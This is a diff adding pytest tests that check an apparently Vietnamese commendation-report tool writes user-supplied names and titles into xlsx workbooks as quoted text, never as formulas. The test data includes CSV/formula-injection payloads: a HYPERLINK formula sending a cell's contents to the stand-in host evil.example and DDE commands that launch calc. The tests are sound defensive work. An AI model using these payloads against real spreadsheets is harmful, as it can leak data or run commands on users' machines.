@@ -5,9 +5,12 @@ outcome is a located exit 2 (or the document), never code run, a traceback, exit
 from __future__ import annotations
 
 import io
+import json
+import shutil
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 from docx import Document
@@ -230,3 +233,82 @@ def test_a_number_too_long_for_a_target_is_not_drafted(tmp_path: Path, digits: i
     outcome = run_script("draft", "so.txt", cwd=tmp_path)
     assert outcome.rc == 0 and judge(outcome) is None, outcome.describe()
     assert "có số dài quá 30 chữ số" in outcome.stdout and "gte: 5" in outcome.stdout, outcome.stdout
+
+
+# --- workbooks: no formula from input text ------------------------------------------------------
+
+# Texts a spreadsheet may take for formulas: a live link, a DDE command, arithmetic, @, and the same
+# after a tab or a carriage return (which the reader shows as '\x0d', visible).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+BLOCK = ROOT / "examples" / "khoi-thi-dua-so-6"
+
+
+def _swap(path: Path, pairs: list[tuple[str, str]]) -> None:
+    text = path.read_text(encoding="utf-8")
+    for old, new in pairs:
+        assert old in text, old
+        text = text.replace(old, new, 1)
+    path.write_text(text, encoding="utf-8")
+
+
+def _quoted(text: str) -> str:
+    return json.dumps(text, ensure_ascii=False)  # a YAML double-quoted scalar
+
+
+def _cells(path: Path) -> list[Any]:
+    from openpyxl import load_workbook
+
+    book = load_workbook(path)  # not data_only: a formula reads back as its formula, typed 'f'
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def _no_formula_from(path: Path, texts: list[str]) -> None:
+    cells = _cells(path)
+    formulas = [f"{c.parent.title}!{c.coordinate}: {c.value!r}" for c in cells if c.data_type == "f"]
+    assert formulas == [], formulas
+    values = {c.value for c in cells if isinstance(c.value, str)}
+    shown = [t.replace("\r", "\\x0d") for t in texts]  # a control character is made visible when read
+    missing = [t for t in shown if not any(t in v for v in values)]
+    assert missing == [], missing  # each text is there, as text, as written
+    quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))]
+    assert quoted and all(c.quotePrefix for c in quoted)  # and stays text when a user edits the cell
+
+
+def test_the_report_workbook_has_no_formula_from_input_text(tmp_path: Path) -> None:
+    folder = tmp_path / "2022"
+    shutil.copytree(EXAMPLE, folder)
+    people = ["Nguyễn Văn Hùng", "Điểu Thị Lan", "Trần Quốc Bảo", "Lê Thị Hồng Nhung", "Phạm Minh Tuấn"]
+    roster = [(f"name: {p}", f"name: {_quoted(t)}") for p, t in zip(people, FORMULAS, strict=False)]
+    roster.append(("name: Thanh tra Ban", f"name: {_quoted(FORMULAS[-1])}"))
+    _swap(folder / "roster.facts.yaml", roster)
+    title = 'title: Phấn đấu 05 tập thể phòng đạt danh hiệu "Tập thể lao động tiên tiến"'
+    _swap(folder / "targets.rules.yaml", [(title, "title: '=1+1'")])
+    outcome = run_script("report", ".", "--format", "xlsx", "--out", "r.xlsx", "--no-record", cwd=folder)
+    assert outcome.rc == 0, outcome.describe()
+    _no_formula_from(folder / "r.xlsx", [*FORMULAS, "=1+1"])
+
+
+def test_the_block_workbook_has_no_formula_from_input_text(tmp_path: Path) -> None:
+    shutil.copytree(BLOCK, tmp_path / "khoi")
+    shutil.copytree(EXAMPLE.parent, tmp_path / "ban-dan-toc-binh-phuoc")
+    _swap(
+        tmp_path / "khoi" / "so-noi-vu" / "roster.facts.yaml",
+        [("name: Sở Nội vụ tỉnh Bình Phước", f"name: {_quoted(FORMULAS[0])}")],
+    )
+    _swap(
+        tmp_path / "khoi" / "block.rules.yaml",
+        [
+            ("title: Tập thể phòng đạt Tập thể lao động tiên tiến,", f"title: {_quoted(FORMULAS[1])},"),
+            ("title: Thực hiện chỉ tiêu thi đua đối với cá nhân", f"title: {_quoted(FORMULAS[2])}"),
+        ],
+    )
+    outcome = run_script("block", "khoi", "--format", "xlsx", "--out", "b.xlsx", "--no-record", cwd=tmp_path)
+    assert outcome.rc in (0, 2) and judge(outcome) is None, outcome.describe()
+    _no_formula_from(tmp_path / "b.xlsx", FORMULAS[:3])
